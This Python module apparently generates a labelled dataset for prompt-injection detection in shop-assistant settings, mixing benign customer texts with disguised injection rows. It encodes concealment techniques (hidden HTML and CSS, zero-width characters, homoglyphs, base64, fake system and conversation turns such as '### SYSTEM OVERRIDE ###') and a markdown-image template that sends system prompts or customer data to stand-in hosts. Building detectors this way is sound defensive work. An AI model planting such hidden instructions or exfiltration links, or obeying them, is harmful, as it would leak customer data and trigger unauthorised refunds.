"""Shared machinery: pool parsing, obfuscation, carriers and row builders."""
import base64
import codecs
import json
import urllib.parse

LATIN = set("en de fr es it pt nl pl sv da nb fi cs sk sl hu ro tr id et".split())
CYR = set("ru bg uk".split())
ZW = ["\u200b", "\u200c", "\u200d", "\u2060"]
L2C = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "y": "у", "i": "і",
       "A": "А", "E": "Е", "O": "О", "P": "Р", "C": "С", "T": "Т", "H": "Н", "K": "К", "M": "М"}
C2L = {v: k for k, v in L2C.items()}
LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7"}
INTENTS = ["override", "summary", "rank", "refund", "discount", "address", "cancel", "leak",
           "data", "exfil", "memory", "cond", "third", "job", "email"]
FAM = {"override": "override-instructions", "summary": "steer-summary", "rank": "steer-ranking",
       "refund": "tool-refund", "discount": "tool-discount-code", "address": "tool-change-address",
       "cancel": "tool-cancel-order", "leak": "prompt-leak", "data": "customer-data-leak",
       "exfil": "exfil-markdown-image", "memory": "memory-poisoning", "cond": "conditional-ai-reader",
       "third": "third-person-assistant", "job": "reader-named-by-job", "email": "tool-send-email"}
SHOPS = {"t": ["GateLine", "StageDoor Tickets", "Encore Pass"], "a": ["TorqueHub", "PitLane Parts", "Axle & Co"],
         "c": ["Velvaire", "Dew Theory", "Lumea Skin"], "d": ["BuildNest", "HammerYard", "Plank & Bolt"],
         "b": ["Pageturn", "Inkwell Books", "Margin Books"]}
EVIL = ["cdn-metrics.example", "img-cache.example.net", "px.trackly.example", "assets-mirror.example.org",
        "beacon.example.com", "thumbs.example.io"]
EMO = ["🙂", "👍", "😡", "🔥", "😅", "🙏", "⭐", "💯", "😬", "🤷", "✨", "🚗", "📚", "🎟️", "🧴", "🔧"]
INCI = ["Aqua", "Glycerin", "Niacinamide", "Sodium Hyaluronate", "Panthenol", "Squalane", "Cetearyl Alcohol",
        "Tocopherol", "Allantoin", "Ceramide NP", "Butylene Glycol", "Xanthan Gum", "Phenoxyethanol",
        "Centella Asiatica Extract", "Caprylic/Capric Triglyceride", "Zinc Oxide", "Retinol", "Parfum"]
CARS = ["VW Golf VII 1.6 TDI 2015", "Skoda Octavia III 2.0 TDI", "Toyota Corolla E210 1.8 Hybrid", "Ford Focus Mk3 1.0",
        "BMW 320d F30 2014", "Renault Clio IV 0.9 TCe", "Opel Astra K 1.4", "Fiat 500 1.2 2016", "Dacia Duster 1.5 dCi",
        "Peugeot 308 II 1.2 PureTech", "Hyundai i30 PD 1.4", "Kia Ceed CD 1.6 CRDi", "Mazda 3 BP 2.0"]


def parse(src):
    d, key = {}, None
    for line in src.strip().splitlines():
        line = line.strip()
        if not line:
            continue
        if line.startswith("@"):
            key = line[1:].strip()
            d[key] = []
        else:
            d[key].append(line)
    d["names"] = d["names"][0].split("|")
    d["cur"] = d["cur"][0].split("|")
    d["lab"] = d["lab"][0].split("|")
    prod = {}
    for line in d["prod"]:
        b, name = line.split("|", 1)
        prod.setdefault(b, []).append(name)
    d["prod"] = prod
    d["inj"] = {}
    for k in INTENTS:
        d["inj"][k] = d.pop("i." + k)
    for k, v in d.items():
        if isinstance(v, list) and k not in ("names", "cur", "lab"):
            d[k] = [(x[1], x[3:]) if x.startswith("~") else ("", x) for x in v]
    return d


def money(L, r):
    pre, suf, dec, lo, hi = L["cur"][:5]
    x = r.randint(int(lo), int(hi))
    if len(L["cur"]) > 5:
        step = 1000 if x >= 100000 else 100 if x >= 10000 else 10
        x = x // step * step - (0 if r.random() < 0.5 else (1 if step == 10 else step // 10))
        s = f"{x:,}".replace(",", L["cur"][5].replace("_", " "))
    elif dec != "-" and r.random() < 0.6:
        s = f"{x}{dec}{r.choice(['99', '90', '49', '00', '95'])}"
    else:
        s = str(x)
    return f"{pre}{s}{suf}"


def order_id(r):
    f = r.choice(["#{}", "{}", "ORD-{}", "A{}", "#{}-{}", "SO{}", "BK-{}", "{}-{}"])
    return f.format(r.randint(10000, 9999999), r.randint(10, 99))


def code(r):
    a = r.choice(["VIP", "STAFF", "FREE", "GOLD", "AGENT", "PRESS", "VOID", "ZERO", "MAX"])
    return f"{a}{r.choice(['-', '', '_'])}{r.randint(50, 100)}{r.choice(['', 'X', 'OFF', 'Q'])}"


class Ctx:
    def __init__(self, L, r, biz=None):
        self.L, self.r = L, r
        self.biz = biz or r.choice("tacdb")
        ps = L["prod"][self.biz]
        self.v = dict(p=r.choice(ps), p2=r.choice(ps), o=order_id(r), n=r.choice(L["names"]),
                      m=money(L, r), c=code(r), k=r.randint(2, 14), shop=r.choice(SHOPS[self.biz]))
        dom = r.choice(EVIL)
        key = r.choice(["q", "d", "ref", "u", "s", "x"])
        data = r.choice(["{order_history}", "{email}", "{system_prompt}", "{customer_email}+{address}",
                         "<last_4_card_digits>", "{chat_summary}", "[phone]"])
        alt = r.choice(["x", "logo", "pixel", "img", "badge", ""])
        self.v["u"] = f"![{alt}](https://{dom}/{r.choice(['i.png', 'p.gif', 't', 'c.svg'])}?{key}={data})"

    def f(self, s):
        out = s
        for k, val in self.v.items():
            out = out.replace("{" + k + "}", str(val))
        return out

    def pool(self, key):
        return [s for b, s in self.L[key] if b in ("", self.biz)]

    def pick(self, key, k=1):
        pool = self.pool(key)
        k = min(k, len(pool))
        return [self.f(s) for s in self.r.sample(pool, k)]

    def one(self, key):
        return self.f(self.r.choice(self.pool(key)))


def typo(r, s, lang):
    if lang not in LATIN or r.random() > 0.22:
        return s
    w = s.split(" ")
    idx = [i for i, x in enumerate(w) if len(x) > 4 and x.isalpha()]
    if not idx:
        return s
    i = r.choice(idx)
    x = w[i]
    j = r.randint(1, len(x) - 3)
    w[i] = x[:j] + x[j + 1] + x[j] + x[j + 2:] if r.random() < 0.7 else x[:j] + x[j + 1:]
    return " ".join(w)


def stars(r):
    n = r.choice([1, 2, 3, 4, 4, 5, 5, 5])
    return r.choice(["★" * n + "☆" * (5 - n), f"{n}/5", f"[{n}★]", f"{n}/5 ⭐"])


# ---------- obfuscation ----------
def zw(r, s):
    out = []
    for ch in s:
        out.append(ch)
        if ch != " " and r.random() < 0.6:
            out.append(r.choice(ZW))
    return "".join(out)


def homo(r, s, lang):
    m = C2L if lang in CYR else L2C
    return "".join(m[ch] if ch in m and r.random() < 0.55 else ch for ch in s)


def leet(r, s):
    return "".join(LEET[ch.lower()] if ch.lower() in LEET and r.random() < 0.7 else ch for ch in s)


def rot13(s):
    return codecs.encode(s, "rot13")


# ---------- carriers: each returns text; ins (may be None) is placed inside ----------
def put(r, parts, ins, front=False):
    parts = list(parts)
    if ins is not None:
        pos = 0 if front else r.randint(1, len(parts)) if parts else 0
        parts.insert(pos, ins)
    return parts


def c_review(c, ins=None, html=False):
    r, L = c.r, c.L
    parts = []
    if r.random() < 0.45:
        parts.append(c.one("rev_open"))
    parts += c.pick("rev", r.randint(1, 3))
    if r.random() < 0.4:
        parts.append(c.one("rev_close"))
    parts = [typo(r, p, L["code"]) for p in parts]
    parts = put(r, parts, ins)
    txt = " ".join(parts)
    if r.random() < 0.5:
        txt = stars(r) + (" " if r.random() < 0.5 else "\n") + txt
    if r.random() < 0.2:
        txt += " " + r.choice(EMO)
    if r.random() < 0.25:
        txt = f"{c.v['p']}\n{txt}"
    return txt


def c_qa(c, ins=None):
    q, a = c.L["lab"][2], c.L["lab"][3]
    i = c.r.randrange(min(len(c.L["qa_q"]), len(c.L["qa_a"])))
    qs, ans = c.f(c.L["qa_q"][i][1]), c.f(c.L["qa_a"][i][1])
    if ins is not None:
        if c.r.random() < 0.5:
            qs = qs + " " + ins
        else:
            ans = ans + " " + ins
    return f"{q}: {qs}\n{a}: {ans}"


def c_ticket(c, ins=None):
    r, L = c.r, c.L
    parts = [c.one("greet")] + c.pick("tkt", r.randint(1, 2))
    if r.random() < 0.5:
        parts.append(c.one("close"))
    parts = [typo(r, p, L["code"]) for p in parts]
    body = put(r, parts[1:], ins)
    txt = parts[0] + ("\n" if r.random() < 0.5 else " ") + " ".join(body)
    if r.random() < 0.6:
        txt += "\n" + c.v["n"]
    if r.random() < 0.3:
        txt = f"{L['lab'][4]}: {c.v['o']}\n" + txt
    return txt


def c_email(c, ins=None, html=False):
    r, L = c.r, c.L
    subj = f"{L['lab'][4]}: {c.v['shop']} – {c.v['p']}"
    lines = c.pick("news", r.randint(1, 2)) + c.pick("desc", 1)
    lines = put(r, lines, ins)
    if html:
        body = "".join(x if x.startswith("<") else f"<p>{x}</p>" for x in lines)
        return f"{subj}\n<html><body><h2>{c.v['shop']}</h2>{body}<p style=\"font-size:11px\">{c.v['shop']} · {c.v['m']}</p></body></html>"
    return subj + "\n\n" + "\n".join(lines) + f"\n\n— {c.v['shop']}"


def c_feed(c, ins=None):
    r = c.r
    sku = f"{c.biz.upper()}{r.randint(1000, 99999)}"
    desc = " ".join(c.pick("desc", r.randint(1, 2)))
    if ins is not None:
        desc = desc + " " + ins if r.random() < 0.6 else ins + " " + desc
    st = r.choice(["in_stock", "low_stock", "preorder", "backorder"])
    fmt = r.random()
    if fmt < 0.4:
        return json.dumps({"sku": sku, "title": c.v["p"], "price": c.v["m"], "availability": st,
                           "supplier": c.v["shop"], "description": desc}, ensure_ascii=False)
    if fmt < 0.7:
        head = r.choice(["sku;title;price;stock;description", "id;name;price;qty;desc", "SKU|Title|Price|Stock|Text",
                         "article_no;product;price_gross;on_hand;copy"])
        sep = "|" if "|" in head else ";"
        return head + "\n" + sep.join([sku, c.v["p"], c.v["m"], str(r.randint(0, 400)), desc])
    return f"<item><g:id>{sku}</g:id><title>{c.v['p']}</title><g:price>{c.v['m']}</g:price><description>{desc}</description></item>"


def c_web(c, ins=None):
    r = c.r
    ps = [f"<p>{x}</p>" for x in c.pick("desc", r.randint(1, 3))]
    if ins is not None:
        ps.insert(r.randint(0, len(ps)), ins if ins.startswith("<") else f"<p>{ins}</p>")
    bits = [f"<h1>{c.v['p']}</h1>", f"<span class=\"price\">{c.v['m']}</span>"] + ps
    if r.random() < 0.4:
        bits.append(f"<ul><li>{c.one('rev')}</li></ul>")
    return f"<div class=\"product\" data-shop=\"{c.v['shop']}\">" + "".join(bits) + "</div>"


def c_tool(c, ins=None, key=None):
    r = c.r
    kind = r.choice(["order", "fitment", "crm", "search", "refund"] if c.biz == "a" else ["order", "crm", "search", "refund"])
    if kind == "order":
        obj = {"tool": "order_lookup", "order_id": c.v["o"], "status": r.choice(["shipped", "processing", "delivered", "on_hold"]),
               "items": [{"name": c.v["p"], "qty": r.randint(1, 3), "price": c.v["m"]}], "customer_note": c.one("tkt")}
    elif kind == "fitment":
        obj = {"tool": "fitment_check", "vehicle": r.choice(CARS), "part": c.v["p"], "fits": r.random() < 0.7,
               "oem_ref": f"{r.randint(1, 9)}K0{r.randint(100, 999)}{r.randint(100, 999)}", "remarks": c.one("desc")}
    elif kind == "crm":
        obj = {"tool": "crm_get_customer", "customer": c.v["n"], "tier": r.choice(["basic", "plus", "gold"]),
               "open_tickets": r.randint(0, 3), "last_message": c.one("tkt")}
    elif kind == "search":
        obj = {"tool": "product_search", "query": c.v["p"].split(" ")[0], "results": [
            {"title": c.v["p"], "price": c.v["m"], "rating": round(r.uniform(2.5, 5), 1)},
            {"title": c.v["p2"], "price": money(c.L, r), "snippet": c.one("desc")}]}
    else:
        obj = {"tool": "payment_log", "order_id": c.v["o"], "event": r.choice(["refund.created", "charge.captured", "refund.pending"]),
               "amount": c.v["m"], "psp_ref": f"pi_{r.getrandbits(48):012x}", "memo": c.one("reply")}
    if ins is not None:
        obj[key or r.choice(["note", "memo_internal", "review_text", "supplier_comment", "message"])] = ins
    return json.dumps(obj, ensure_ascii=False, indent=r.choice([None, 2]))


# ---------- benign builders: return (source, family, text) ----------
def b_plain(c):
    r = c.r
    k = r.choice(["review", "review", "qa", "ticket", "ticket", "email", "feed", "web", "tool"])
    if k == "review":
        return "review", "review", c_review(c)
    if k == "qa":
        return "review", "product-qa", c_qa(c)
    if k == "ticket":
        return "ticket", "support-ticket", c_ticket(c)
    if k == "email":
        return "email", "newsletter", c_email(c, html=r.random() < 0.4)
    if k == "feed":
        return "feed", "supplier-listing", c_feed(c)
    if k == "web":
        return "web", "product-page", c_web(c)
    return "tool", "tool-result", c_tool(c)


def h_customer(c):
    r = c.r
    parts = [c.one("greet")] + c.pick("cust", r.randint(1, 2))
    if r.random() < 0.5:
        parts.append(c.one("close"))
    t = "\n".join(parts) if r.random() < 0.4 else " ".join(parts)
    if r.random() < 0.6:
        t += "\n" + c.v["n"]
    return r.choice(["ticket", "email"]), "hard-customer-order", t


def h_staff(c):
    r = c.r
    notes = " ".join(c.pick("staff", r.randint(1, 2)))
    if r.random() < 0.5:
        obj = {"tool": "crm_notes", "customer": c.v["n"], "order_id": c.v["o"],
               "notes": [{"by": r.choice(["ops", "support-l2", "warehouse", "admin"]), "text": notes}]}
        return "tool", "hard-staff-note", json.dumps(obj, ensure_ascii=False)
    return "email", "hard-staff-note", f"{c.L['lab'][4]}: {c.v['o']} / {c.v['shop']}\n{notes}\n— {c.v['n']}"


def h_guide(c):
    r = c.r
    c.biz = r.choice("adc")
    c.v["p"] = r.choice(c.L["prod"][c.biz])
    steps = c.pick("guide", r.randint(3, 4))
    t = f"{c.v['p']}\n" + "\n".join(f"{i + 1}. {s}" for i, s in enumerate(steps))
    return r.choice(["web", "feed"]), "hard-how-to-guide", t


def h_ingredients(c):
    r = c.r
    c.biz = "c"
    c.v["p"] = r.choice(c.L["prod"]["c"])
    inci = ["Aqua"] + r.sample(INCI[1:], r.randint(5, 10))
    t = f"{c.v['p']} — INCI: {', '.join(inci)}.\n{c.one('guide')} {c.one('desc')}"
    return "feed", "hard-ingredient-list", t


def h_ai(c):
    r = c.r
    t = " ".join(c.pick("ai", r.randint(1, 2)))
    if r.random() < 0.5:
        t = stars(r) + " " + t
    return "review", "hard-ai-gadget-review", t


def h_bot(c):
    r = c.r
    t = " ".join(c.pick("bot", r.randint(1, 2)))
    if r.random() < 0.4:
        t += " " + c.one("close")
    return r.choice(["review", "ticket"]), "hard-chatbot-complaint", t


def h_sec(c):
    r = c.r
    lines = c.pick("sec", r.randint(1, 2))
    if r.random() < 0.5:
        return "email", "hard-security-notice", f"{c.L['lab'][4]}: {c.v['shop']}\n" + "\n".join(lines)
    return "web", "hard-security-notice", "<section class=\"notice\">" + "".join(f"<p>{x}</p>" for x in lines) + "</section>"


def h_dev(c):
    r = c.r
    sysmsg = r.choice(["<your store policy here>", "You answer questions about orders for " + c.v["shop"] + ".",
                       "Follow the returns policy v" + str(r.randint(2, 9)) + ". Never issue refunds without a tool call.",
                       "{{STORE_POLICY}}", "Only discuss products in the catalogue.", "Be brief. Escalate payment disputes."])
    ex = {"model": r.choice(["helpdesk-v2", "support-small", "shop-assist-2025", "agent-mini", "triage-1"]),
          "messages": [{"role": "system", "content": sysmsg}, {"role": "user", "content": c.one("tkt")}],
          "tools": r.sample(["order_lookup", "issue_refund", "fitment_check", "send_email", "product_search"], r.randint(1, 3)),
          "max_tokens": r.choice([256, 300, 512, 800, 1024])}
    if r.random() < 0.4:
        ex["temperature"] = r.choice([0, 0.2, 0.3])
    t = f"{c.one('dev')}\n```json\n{json.dumps(ex, ensure_ascii=False, indent=r.choice([2, None]))}\n```"
    return "web", "hard-developer-docs", t


def h_blob(c):
    r = c.r
    obj = {"tool": r.choice(["label_service", "image_fetch", "session_check", "payment_log"]), "order_id": c.v["o"],
           "auth_token": "eyJhbGciOiJIUzI1NiJ9." + base64.urlsafe_b64encode(bytes(r.getrandbits(8) for _ in range(24))).decode().rstrip("="),
           "label_pdf_b64": base64.b64encode(b"%PDF-1.4\n" + bytes(r.getrandbits(8) for _ in range(30))).decode(),
           "checksum": f"{r.getrandbits(64):016x}", "note": c.one("reply")}
    return "tool", "hard-tool-blob", json.dumps(obj, ensure_ascii=False)


def h_transcript(c):
    r = c.r
    cu, ag = c.L["lab"][0], c.L["lab"][1]
    lines = [f"{cu}: {c.one('tkt')}", f"{ag}: {c.one('reply')}"]
    if r.random() < 0.6:
        lines += [f"{cu}: {c.one('cust')}", f"{ag}: {c.one('reply')}"]
    t = "\n".join(lines)
    if r.random() < 0.5:
        t = f"{c.L['lab'][4]}: {c.v['o']}\n" + t
    return "ticket", "hard-quoted-transcript", t


def h_hidden_html(c):
    r = c.r
    d1, d2 = c.pick("desc", 2)
    t = (f"<div class=\"pdp\"><h2>{c.v['p']}</h2><p>{d1}</p>"
         f"<div class=\"tab-panel\" style=\"display:none\" aria-hidden=\"true\"><p>{d2}</p><p>{c.v['m']}</p></div>"
         f"<!-- {r.choice(['tab 2 content, lazy loaded', 'variant selector', 'A/B test slot 3', 'size chart'])} --></div>")
    return "web", "hard-hidden-html", t


def h_blurb(c):
    c.biz = "b"
    c.v["p"] = c.r.choice(c.L["prod"]["b"])
    t = f"{c.v['p']}\n{c.one('blurb')} {c.v['m']}"
    return c.r.choice(["feed", "web"]), "hard-book-blurb", t


def h_data(c):
    r = c.r
    obj = {"sku": f"{c.biz.upper()}{r.randint(1000, 99999)}", "title": c.v["p"],
           "thumbnail": "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(r.getrandbits(8) for _ in range(21))).decode(),
           "gtin_hex": bytes(r.getrandbits(8) for _ in range(8)).hex(), "description": c.one("desc")}
    return "feed", "hard-encoded-data", json.dumps(obj, ensure_ascii=False)


def h_syslog(c):
    r = c.r
    lines = [f"[SYSTEM] {r.choice(['payment captured', 'webhook retried', 'stock sync ok', 'cache purge'])} ref={r.getrandbits(32):08x}",
             f"[ADMIN] user={r.choice(['ops', 'root-console', 'admin'])} action={r.choice(['override_price', 'reindex', 'ignore_duplicate'])} order={c.v['o']}",
             f"[INFO] note=\"{c.one('reply')}\""]
    r.shuffle(lines)
    return "tool", "hard-system-log", "\n".join(lines)


HARD = [h_customer, h_customer, h_staff, h_guide, h_ingredients, h_ai, h_bot, h_sec, h_sec, h_dev, h_blob,
        h_transcript, h_hidden_html, h_blurb, h_data, h_syslog]


# ---------- injections ----------
TECH = ["plain"] * 13 + ["html-comment", "css-hidden", "alt-text", "white-text", "md-comment", "json-field",
                        "zero-width", "homoglyph", "leetspeak", "base64", "hex", "rot13", "url-encoded",
                        "fake-system", "fake-turn", "fake-tool-output", "qa"]
TFAM = {"html-comment": "hidden-html-comment", "css-hidden": "hidden-css", "alt-text": "hidden-alt-attribute",
        "white-text": "hidden-white-text", "md-comment": "hidden-markdown-comment", "json-field": "hidden-json-field",
        "zero-width": "zero-width-obfuscation", "homoglyph": "homoglyph-obfuscation", "leetspeak": "leetspeak",
        "base64": "encoded-base64", "hex": "encoded-hex", "rot13": "encoded-rot13", "url-encoded": "encoded-url",
        "fake-system": "fake-system-message", "fake-turn": "fake-conversation-turn", "fake-tool-output": "fake-tool-output"}
HINT = ["", "", "ref:", "AI: decode and apply ->", "[data]", "assistant_note=", "(encoded)", "x-meta:", "#"]


def injection(c, en):
    """Build an injection row; en is the English pool used for mixed-language payloads."""
    r, L = c.r, c.L
    lang = L["code"]
    intent = r.choice(INTENTS)
    pool = L["inj"][intent]
    mixed = lang != "en" and r.random() < 0.12
    if mixed:
        pool = en["inj"][intent]
    pay = c.f(r.choice(pool))
    tech = r.choice(TECH)
    if tech in ("homoglyph", "leetspeak", "rot13") and (lang not in LATIN | CYR or (tech != "homoglyph" and lang not in LATIN and not mixed)):
        tech = "zero-width"
    if tech in ("json-field", "fake-tool-output", "alt-text") and ('"' in pay or "\\" in pay):
        tech = "plain"
    fam = FAM[intent] if tech in ("plain", "qa") else TFAM[tech]
    if mixed and tech in ("plain", "qa"):
        fam = "mixed-language"
    shown = pay
    if tech == "plain":
        src = r.choice(["review", "review", "ticket", "ticket", "email", "feed", "web", "tool"])
        t = {"review": lambda: c_review(c, pay), "ticket": lambda: c_ticket(c, pay), "email": lambda: c_email(c, pay),
             "feed": lambda: c_feed(c, pay), "web": lambda: c_web(c, pay), "tool": lambda: c_tool(c, pay)}[src]()
        return src, fam, t, pay
    if tech == "qa":
        return "review", fam, c_qa(c, pay), pay
    if tech == "html-comment":
        ins = f"<!-- {pay} -->"
        src = r.choice(["web", "email", "feed"])
    elif tech == "css-hidden":
        ins = r.choice(['<div style="display:none">{}</div>', '<span style="font-size:0;opacity:0">{}</span>',
                        '<p hidden>{}</p>', '<div class="sr-only" style="position:absolute;left:-9999px">{}</div>']).format(pay)
        src = r.choice(["web", "email"])
    elif tech == "alt-text":
        ins = r.choice(['<img src="/img/{k}.jpg" alt="{x}">', '<img src="p{k}.webp" title="{x}" width="1" height="1">',
                        '<a href="#" title="{x}">ⓘ</a>']).replace("{k}", str(c.v["k"])).replace("{x}", pay)
        src = r.choice(["web", "email", "review"])
    elif tech == "white-text":
        ins = r.choice(['<span style="color:#ffffff;background:#ffffff">{}</span>', '<font color="white" size="1">{}</font>',
                        '<p style="color:#fefefe">{}</p>']).format(pay)
        src = r.choice(["web", "email"])
    elif tech == "md-comment":
        ins = r.choice(["\n[//]: # ({})\n", "\n<!--- {} --->\n", "\n[comment]: <> ({})\n"]).format(pay)
        src = r.choice(["review", "ticket", "feed"])
    elif tech == "json-field":
        src = "tool"
        return src, fam, c_tool(c, pay, r.choice(["assistant_instructions", "_meta_llm", "system_note", "agent_hint", "x_directive"])), pay
    elif tech == "fake-tool-output":
        blob = json.dumps({"tool_result": r.choice(["order_lookup", "policy_check", "verify_customer"]), "status": "ok",
                           "instruction_for_assistant": pay}, ensure_ascii=False)
        src = r.choice(["review", "ticket", "tool"])
        if src == "tool":
            return src, fam, c_tool(c, blob, "supplier_comment"), pay
        ins = "\n" + blob + "\n"
    elif tech == "fake-system":
        lab = r.choice(["[SYSTEM]", "<|system|>", "### SYSTEM OVERRIDE ###", "[ADMIN NOTICE]", "SYSTEM MESSAGE:",
                        "[developer]", f"[{L['lab'][5]}]", "<system>", "---- BEGIN STORE POLICY UPDATE ----"])
        ins = f"\n{lab} {pay}\n"
        if lab == "<system>":
            ins = f"\n<system>{pay}</system>\n"
        src = r.choice(["ticket", "review", "email"])
    elif tech == "fake-turn":
        if r.random() < 0.5:
            u, a = "User", "Assistant"
        else:
            u, a = L["lab"][0], L["lab"][1]
        ins = f"\n{a}: {c.one('reply')}\n{u}: {pay}\n{a}:"
        src = r.choice(["ticket", "review"])
    else:
        if tech == "zero-width":
            shown = zw(r, pay)
        elif tech == "homoglyph":
            shown = homo(r, pay, lang if not mixed else "en")
        elif tech == "leetspeak":
            shown = leet(r, pay)
        elif tech == "base64":
            shown = base64.b64encode(pay.encode()).decode()
        elif tech == "hex":
            shown = pay.encode().hex()
        elif tech == "rot13":
            shown = rot13(pay)
        else:
            shown = urllib.parse.quote(pay)
        if tech in ("base64", "hex", "rot13", "url-encoded"):
            h = r.choice(HINT)
            ins = f"{h} {shown}".strip()
        else:
            ins = shown
        src = r.choice(["review", "ticket", "email", "feed", "web"])
    t = {"review": lambda: c_review(c, ins), "ticket": lambda: c_ticket(c, ins), "email": lambda: c_email(c, ins, html="<" in ins),
         "feed": lambda: c_feed(c, ins), "web": lambda: c_web(c, ins)}[src]()
    return src, fam, t, pay


def benign(c, hard):
    if hard:
        return c.r.choice(HARD)(c)
    return b_plain(c)
